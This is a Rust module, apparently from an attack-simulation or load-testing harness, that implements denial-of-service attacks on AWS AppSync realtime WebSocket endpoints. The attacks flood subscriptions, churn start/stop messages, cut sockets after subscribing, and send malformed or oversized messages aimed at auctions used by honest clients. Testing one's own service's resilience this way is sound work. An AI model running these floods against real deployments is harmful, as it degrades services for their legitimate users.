//! Attacks over AppSync's protocols.

use std::sync::Arc;
use std::time::Duration;

use futures_util::{SinkExt as _, StreamExt as _};
use rand::Rng as _;
use serde_json::json;
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::time::{sleep, timeout};
use tokio_tungstenite::WebSocketStream;
use tokio_tungstenite::tungstenite::Message;

use super::attacker::Attacker;
use super::socket::{read, upgraded_to};

const AGAIN: Duration = Duration::from_millis(50);
const ANSWER_TIMEOUT: Duration = Duration::from_secs(5);
const GRAPHQL: (&str, &str) = ("/graphql/realtime", "graphql-ws");
const EVENTS: (&str, &str) = ("/event/realtime", "aws-appsync-event-ws");
const WATCH: &str = "subscription($id: ID!) { bidCreated(auctionId: $id) { sequence } }";

/// An id as clients make them: at random, so that the subscription is remembered after a cut.
fn id(attacker: &Attacker, worker: usize, number: u64) -> String {
    format!("{:032x}", attacker.rng(worker * 1_000_003 + number as usize).random::<u128>())
}

fn start(id: &str, auction_id: &str) -> String {
    let data = json!({ "query": WATCH, "variables": { "id": auction_id } }).to_string();
    let payload = json!({ "data": data, "extensions": { "authorization": { "host": "x" } } });
    json!({ "id": id, "type": "start", "payload": payload }).to_string()
}

/// Subscriptions on sockets that are cut as soon as each has begun.
pub(super) fn cuts(attacker: &Arc<Attacker>) {
    attacker.workers(16, |attacker, worker| async move {
        for number in 0.. {
            let Some(mut stream) = admitted(&attacker, worker, GRAPHQL).await else {
                sleep(AGAIN).await;
                continue;
            };
            let auction = &attacker.plan.honest[worker % attacker.plan.honest.len()];
            for part in 0..50 {
                let text = start(&id(&attacker, worker, number * 50 + part), auction);
                attacker.pace(text.len()).await;
                if stream.send(Message::text(text)).await.is_err() {
                    break;
                }
            }
            let mut joined = 0;
            while joined < 50
                && let Ok(Some(Ok(Message::Text(text)))) =
                    timeout(ANSWER_TIMEOUT, stream.next()).await
            {
                joined += u64::from(!text.contains("\"ka\""));
                let code = super::attacker::code_in(text.as_bytes());
                attacker.tally(code.as_deref().unwrap_or(""), text.len());
            }
        }
    });
}

/// Starts and stops in a loop, on the auctions that honest clients use.
pub(super) fn churn(attacker: &Arc<Attacker>) {
    flood(attacker, GRAPHQL, |attacker, worker, number| {
        let id = id(attacker, worker, number);
        let auction = &attacker.plan.honest[worker % attacker.plan.honest.len()];
        vec![start(&id, auction), json!({ "id": id, "type": "stop" }).to_string()]
    });
}

/// Channels of auctions that do not exist, and messages that are none: each is answered.
pub(super) fn channels(attacker: &Arc<Attacker>) {
    flood(attacker, EVENTS, |attacker, worker, number| {
        let id = id(attacker, worker, number);
        let channel = format!("/auctions/{id}/bids");
        let authorization = json!({ "x": "y".repeat(2_000) });
        let subscribe = json!({ "id": id, "type": "subscribe", "channel": channel,
                                "authorization": authorization });
        let publish = json!({ "id": id, "type": "publish", "channel": channel, "events": [id] });
        vec![subscribe.to_string(), publish.to_string(), "{".to_owned()]
    });
}

fn flood(
    attacker: &Arc<Attacker>,
    door: (&'static str, &'static str),
    make: impl Fn(&Attacker, usize, u64) -> Vec<String> + Send + Sync + 'static,
) {
    let make = Arc::new(make);
    attacker.workers(16, |attacker, worker| {
        let make = Arc::clone(&make);
        async move {
            let mut number = 0;
            loop {
                let Some(stream) = admitted(&attacker, worker, door).await else {
                    sleep(AGAIN).await;
                    continue;
                };
                let (mut sink, source) = stream.split();
                let reading = {
                    let attacker = Arc::clone(&attacker);
                    async move { read(&attacker, source, &Semaphore::new(0)).await }
                };
                let sending = async {
                    loop {
                        number += 1;
                        for text in make(&attacker, worker, number) {
                            attacker.pace(text.len()).await;
                            if sink.send(Message::text(text)).await.is_err() {
                                return;
                            }
                        }
                    }
                };
                tokio::select! {
                    () = reading => {}
                    () = sending => {}
                }
            }
        }
    });
}

async fn admitted(
    attacker: &Attacker,
    worker: usize,
    door: (&str, &'static str),
) -> Option<WebSocketStream<TcpStream>> {
    let mut stream = upgraded_to(attacker, worker, None, door).await?;
    stream.send(Message::text(r#"{"type":"connection_init"}"#)).await.ok()?;
    match timeout(ANSWER_TIMEOUT, stream.next()).await {
        Ok(Some(Ok(Message::Text(_)))) => Some(stream),
        _ => {
            attacker.tally("no answer", 0);
            None
        }
    }
}
